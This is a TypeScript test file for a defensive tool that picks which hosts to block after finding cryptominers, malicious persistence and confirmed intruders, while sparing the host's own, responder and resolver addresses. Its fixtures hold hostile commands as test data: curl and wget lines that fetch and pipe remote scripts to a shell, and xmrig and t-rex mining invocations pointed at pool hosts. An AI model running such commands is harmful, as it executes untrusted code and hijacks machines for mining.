import { describe, expect, test } from 'bun:test';
import type { ResultPersistence, ScanResult } from '../../model/result.ts';
import { cleanResult, miningResult, suspiciousResult } from '../../report/result.fixture.ts';
import { findingRow } from '../../report/rows.fixture.ts';
import { findTargets, ownAddressesIn, type Spared } from './targets.ts';

const nobody: Spared = { own: [], responder: [], resolvers: [] };

const [miner] = miningResult.miners;
const [entry] = miningResult.persistence;
const [socket] = miningResult.sockets.filter(({ pids }) => pids.includes(4711));
if (miner === undefined || entry === undefined || socket === undefined)
  throw new Error('the fixture changed');

const withCommand = (
  command: string,
  judgement: ResultPersistence['judgement'] = 'malicious',
): ScanResult => ({
  ...cleanResult,
  persistence: [{ ...entry, id: 'P1', judgement, command, decoded: [] }],
});
const withSocket = (change: Partial<typeof socket>): ScanResult => ({
  ...cleanResult,
  miners: [{ ...miner, pool: '' }],
  sockets: [{ ...socket, ...change }],
});
const values = (result: ScanResult, spared: Spared = nobody) => {
  const { addresses, names, left } = findTargets(result, spared);
  return {
    addresses: addresses.map(({ value }) => value),
    names: names.map(({ value }) => value),
    left: left.map(({ value, why }) => `${value} ${why}`),
  };
};
const nothing = { addresses: [], names: [], left: [] };

describe('what is cut off', () => {
  test('is the pool of a miner by name, and where it is connected', () => {
    const found = findTargets({ ...miningResult, persistence: [] }, nobody);
    expect(found.names).toEqual([{ value: 'pool.example.net', because: [{ kind: 'pool', pid: 4711 }] }]);
    expect(found.addresses).toEqual([
      { value: '203.0.113.77', because: [{ kind: 'connection', pid: 4711 }] },
    ]);
  });

  test('is nothing on a clean host, and nothing of what is only suspicious', () => {
    expect(values(cleanResult)).toEqual(nothing);
    expect(values(suspiciousResult)).toEqual(nothing);
  });

  test('is where malicious entries fetch from, and not other entries', () => {
    const command =
      'curl -fsSL http://198.51.100.9:8080/x.sh | sh; wget -q https://drop.example/a.sh -O- | bash';
    expect(values(withCommand(command))).toEqual({
      ...nothing,
      addresses: ['198.51.100.9'],
      names: ['drop.example'],
    });
    expect(values(withCommand(command, 'suspicious'))).toEqual(nothing);
  });

  test('is where malicious entries mine to, as options and lines of their scripts say, and no path of an output', () => {
    const pools =
      'xmrig -o stratum+ssl://48edfH.w1@pool.example:443 -B; t-rex --url=198.51.100.7:3333 -o /tmp/out:12';
    expect(values(withCommand(pools))).toEqual({ ...nothing, names: ['pool.example'] });
    const [row] = withCommand(pools).persistence;
    if (row === undefined) throw new Error('no row');
    const miners = { ...row, reasons: [{ id: 'miner-command', texts: { en: '', 'zh-CN': '' } }] };
    expect(values({ ...cleanResult, persistence: [miners] })).toEqual({
      ...nothing,
      addresses: ['198.51.100.7'],
      names: ['pool.example'],
    });
    expect(values({ ...cleanResult, persistence: [{ ...miners, judgement: 'suspicious' }] })).toEqual(
      nothing,
    );
    const said = { title: 'x', explanation: 'x' };
    const shown = findingRow('F1', said, said, {
      rule: 'persistence.malicious',
      path: row.source,
      evidence: [
        { source: row.source, line: 3, text: 'exec /tmp/.x/m -o stratum+tcp://198.51.100.8:3333' },
        { source: row.source, text: 'notes of stratum+tcp://203.0.113.9:1' },
      ],
    });
    const script = { ...row, command: '' };
    expect(values({ ...cleanResult, persistence: [script], findings: [shown] })).toEqual({
      ...nothing,
      addresses: ['198.51.100.8'],
    });
  });

  test('is who came in, where that is proven', () => {
    const way = {
      vector: 'ssh-key' as const,
      attackers: ['198.51.100.66', 'not an address'],
      account: 'root',
      service: 'sshd',
      chain: [],
      missing: [],
      excluded: [],
    };
    const entries = (grade: 'confirmed' | 'possible'): ScanResult => ({
      ...cleanResult,
      entry: [{ ...way, grade }],
    });
    expect(values(entries('confirmed'))).toEqual({
      addresses: ['198.51.100.66'],
      names: [],
      left: ['not an address not-a-peer'],
    });
    expect(values(entries('possible'))).toEqual(nothing);
  });

  test('is no client of a server into which a miner came', () => {
    const listener = { ...socket, state: 'listen', local: '203.0.113.2:8080', remote: '', inode: 1 };
    const client = { ...socket, local: '203.0.113.2:8080', remote: '198.51.100.20:40000', inode: 2 };
    const result = { ...withSocket({}), sockets: [socket, listener, client] };
    expect(values(result).addresses).toEqual(['203.0.113.77']);
  });
});

describe('what is left open and told', () => {
  test('are ourselves, the responder, and who answers for names', () => {
    const spared = { own: ['203.0.113.2'], responder: ['198.51.100.7'], resolvers: ['2001:db8::53'] };
    for (const [remote, told] of [
      ['203.0.113.2:1', '203.0.113.2 own-address'],
      ['198.51.100.7:1', '198.51.100.7 responder'],
      ['[2001:db8:0::53]:1', '2001:db8::53 resolver'],
      ['127.0.0.1:3333', '127.0.0.1 not-a-peer'],
    ] as const) {
      expect(values(withSocket({ remote }), spared)).toEqual({ ...nothing, left: [told] });
    }
  });

  test('are services that honest software needs', () => {
    expect(values(withCommand('curl https://raw.githubusercontent.com/a/b/x.sh | sh'))).toEqual({
      ...nothing,
      left: ['raw.githubusercontent.com shared'],
    });
    expect(values(withCommand('curl https://notgithub.com/a/b/x.sh | sh')).names).toEqual(['notgithub.com']);
  });

  test('are targets without number, which a hostile host can make up', () => {
    const sockets = Array.from({ length: 900 }, (_, at) => ({
      ...socket,
      remote: `198.18.${at >> 8}.${at & 255}:3333`,
    }));
    const { addresses, left } = findTargets({ ...withSocket({}), sockets }, nobody);
    expect([addresses.length, left.length, left[0]?.why]).toEqual([500, 200, 'too-many']);
  });
});

test('own addresses are those of the sockets', () => {
  const result = {
    ...cleanResult,
    sockets: ['203.0.113.2:22', '[2001:db8::2]:22', '0.0.0.0:80', '127.0.0.1:1', ''].map((local) => ({
      ...socket,
      local,
    })),
  };
  expect(ownAddressesIn(result)).toEqual(['203.0.113.2', '2001:db8::2']);
});
